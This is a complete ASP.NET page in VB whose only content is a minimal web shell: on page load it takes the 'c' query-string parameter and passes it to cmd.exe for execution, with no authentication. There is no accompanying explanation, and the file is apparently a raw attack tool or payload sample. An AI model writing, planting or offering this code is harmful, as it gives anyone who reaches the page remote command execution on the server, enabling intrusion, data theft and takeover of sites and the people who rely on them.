<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load()
  Dim p As New system.diagnostics.processstartinfo("CMD.EXE", "/c " & request.querystring.get("c"))
  PROCESS.START(p)
End Sub
</script>
